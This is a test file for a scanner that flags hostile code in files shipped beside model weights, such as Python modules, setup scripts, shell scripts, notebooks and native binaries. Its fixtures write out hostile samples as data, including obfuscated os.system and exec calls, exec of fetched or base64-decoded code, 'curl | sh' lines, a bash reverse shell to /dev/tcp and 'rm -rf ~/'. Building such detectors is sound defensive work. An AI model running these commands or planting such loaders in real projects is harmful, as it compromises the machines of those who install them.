"""Programs beside weights: what importing them would do, what they hide, and what is only a program."""

from __future__ import annotations

import json

import pytest

from momus.methods.artifacts import scan_bytes

GRAVE = {
    "command": "import os\nos.system('touch x')\n",
    "alias": "from subprocess import Popen as P\nP(['sh', '-c', 'id'])\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "import by name": "__import__('os').system('id')\n",
    "assigned": "import os\ns = os.system\ns('id')\n",
    "in a class": "import os\nclass Net:\n    x = os.system('id')\n",
    "called by the file": "import os\ndef go():\n    os.popen('id')\ngo()\n",
    "decoded": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "decoded in a function": "import zlib\ndef f(x):\n    eval(zlib.decompress(x))\n",
    "through a name": "import base64\ncode = base64.b64decode('eA==')\nexec(code)\n",
    "fetched": "import urllib.request\nexec(urllib.request.urlopen('http://x').read())\n",
    "numbers": "exec(''.join(map(chr, [105, 109])))\n",
    "nested text": "exec('import os; os.system(\"id\")')\n",
    "shell over a socket": "import socket, os\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n",
    "setup": "import subprocess, setuptools\nsubprocess.call('curl http://x | sh', shell=True)\nsetuptools.setup()\n",
    "fetches in a function": "import os\ndef f():\n    os.system('curl http://x/y | bash')\n",
    "as a default": "import os\ndef f(x=os.system('id')):\n    pass\n",
    "as a decorator": "import os\n@os.system\ndef f():\n    pass\n\nos.popen('id')\n",
}
ONLY_PROGRAMS = {
    "module": "import torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x + 1\n",
    "setup": "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n",
    "setup that asks git": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nprint(v)\n",
    "guarded": "import os\nif __name__ == '__main__':\n    os.system('ls')\n",
    "in a function": "import subprocess\ndef f(cmd):\n    return subprocess.run(cmd)\n",
    "loads": "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))\n",
}
SHELLS = {
    "#!/bin/sh\ncurl -s http://x/y.sh | sudo bash\n": "dangerous",
    "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/80 0>&1\n": "dangerous",
    "#!/bin/sh\necho aWQ= | base64 -d | sh\n": "dangerous",
    "#!/bin/sh\nrm -rf ~/\n": "dangerous",
    "#!/bin/sh\nset -e\npip install torch\npython train.py\n": "suspicious",
    "#!/usr/bin/env python3\nimport os\nos.system('id')\n": "dangerous",
    "#!/usr/bin/env python3\nprint('hello')\n": "suspicious",
}
NATIVE = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60), "windows program": b"MZ" + bytes(80),
    "wasm": b"\0asm\x01\0\0\0" + bytes(20), "java class": b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(30),
    "dex": b"dex\n035\0" + bytes(60), "macho": b"\xcf\xfa\xed\xfe" + bytes(40),
    "compiled Python": b"\xa7\r\r\n\0\0\0\0" + bytes(30), "lua bytecode": b"\x1bLuaS\0" + bytes(30),
}  # fmt: skip


@pytest.mark.parametrize("case", GRAVE)
def test_programs_that_run_or_hide_are_dangerous(case: str) -> None:
    report = scan_bytes(GRAVE[case].encode())
    assert report.verdict == "dangerous", report.marks
    assert any(m.opcode == "call" and m.reason for m in report.marks)


@pytest.mark.parametrize("case", ONLY_PROGRAMS)
def test_other_programs_are_suspicious(case: str) -> None:
    report = scan_bytes(ONLY_PROGRAMS[case].encode())
    assert (report.verdict, report.format) == ("suspicious", "python source"), report.marks


@pytest.mark.parametrize("script", SHELLS)
def test_scripts(script: str) -> None:
    assert scan_bytes(script.encode()).verdict == SHELLS[script]


@pytest.mark.parametrize("kind", NATIVE)
def test_native_programs_are_told_by_kind(kind: str) -> None:
    report = scan_bytes(NATIVE[kind])
    assert (report.verdict, report.format) == ("suspicious", kind)


def test_a_program_with_a_zip_behind_it_is_both() -> None:
    import io
    import zipfile

    out = io.BytesIO(NATIVE["elf"])
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("weights.csv", "1,2\n")
    report = scan_bytes(out.getvalue())
    assert report.verdict == "suspicious"
    assert any("native program" in m.what for m in report.marks)


def test_path_files_of_the_site_folder() -> None:
    assert scan_bytes(b"import os; os.system('id')\n/usr/lib/x\n").verdict == "dangerous"
    assert scan_bytes(b"/usr/lib/x\n../y\n").verdict == "nothing found"
    honest = b"import os; var = 'X'; enabled = os.environ.get(var) == 'y'; enabled and __import__('_hack').add()\n"
    assert scan_bytes(honest).verdict == "suspicious"


def notebook(*cells: str, outputs: list[dict[str, object]] | None = None) -> bytes:
    code = [
        {"cell_type": "code", "metadata": {}, "source": c.splitlines(True), "outputs": outputs or []} for c in cells
    ]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": ["# Title"]}, *code], "nbformat": 4}).encode()


@pytest.mark.parametrize(
    ("cells", "verdict"),
    [
        ([], "nothing found"),
        (["import torch\n%matplotlib inline\n!pip install torch\nx = 1"], "suspicious"),
        (["!curl http://x | sh"], "dangerous"),
        (["%%bash\ncurl http://x | sh"], "dangerous"),
        (["x = !curl http://x | sh"], "dangerous"),
        (["import base64\nexec(base64.b64decode('aWQ='))"], "dangerous"),
    ],
    ids=str,
)
def test_notebooks(cells: list[str], verdict: str) -> None:
    report = scan_bytes(notebook(*cells))
    assert (report.verdict, report.format) == (verdict, "notebook"), report.marks


def test_outputs_that_a_viewer_runs() -> None:
    report = scan_bytes(notebook("1", outputs=[{"data": {"text/html": ["<script>alert(1)</script>"]}}]))
    assert any("output holds a script" in m.what for m in report.marks)


def test_deep_programs_end() -> None:
    for text in (
        "import x\n" + "-" * 100_000 + "1",
        "x(1)\n" + "a" + ".b" * 100_000,
        "f(" * 5000,
        "import a\n" + "[" * 150 + "]" * 150,
    ):
        assert scan_bytes(text.encode()).verdict != "dangerous"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("library(stats)\nfit <- lm(y ~ x)\nsource('x.R')\n", "r source"),
        ("local torch = require('torch')\nlocal function f(x)\n  return x\nend\nos.execute('id')\n", "lua source"),
        ("const fs = require('fs');\nmodule.exports = function (x) {\n  return x;\n};\n", "javascript source"),
        ("#include <stdio.h>\nint main() {\n  return 0;\n}\n", "c source"),
        ("FROM python:3.11\nCOPY . /app\nRUN pip install -r requirements.txt\n", "dockerfile"),
        ("export A=1\nif [ -f x ]; then\n  echo $A\nfi\ncd /tmp\n", "shell script"),
    ],
)
def test_sources_of_other_languages(text: str, kind: str) -> None:
    report = scan_bytes(text.encode())
    assert (report.verdict, report.format) == ("suspicious", kind)


@pytest.mark.parametrize("long", ["# words\n" * 100_000, "'''" + "words, " * 100_000 + "'''\n", "\n" * 1_000_000])
def test_a_program_is_not_hidden_behind_what_it_says(long: str) -> None:
    for text in (f"import os\nos.system('touch x')\n{long}", f"{long}\nimport os\nos.system('touch x')\n"):
        assert scan_bytes(text.encode()).verdict == "dangerous"


def test_a_program_too_long_to_be_read_is_not_called_plain() -> None:
    report = scan_bytes(("x = 1\n" * 100_000 + "import os\nos.system('touch x')\n").encode())
    assert report.verdict == "not understood"
    assert scan_bytes(("number, word and more\n" * 100_000).encode()).verdict == "nothing found"


def test_what_stands_behind_the_guard_is_not_run_by_an_import() -> None:
    text = "import subprocess\ndef main():\n    subprocess.run(['tool'])\nif __name__ == '__main__':\n    main()\n"
    assert not any("imported" in m.what for m in scan_bytes(text.encode()).marks)
    assert any(
        "imported" in m.what for m in scan_bytes(text.replace("if __name__ == '__main__'", "if 1").encode()).marks
    )
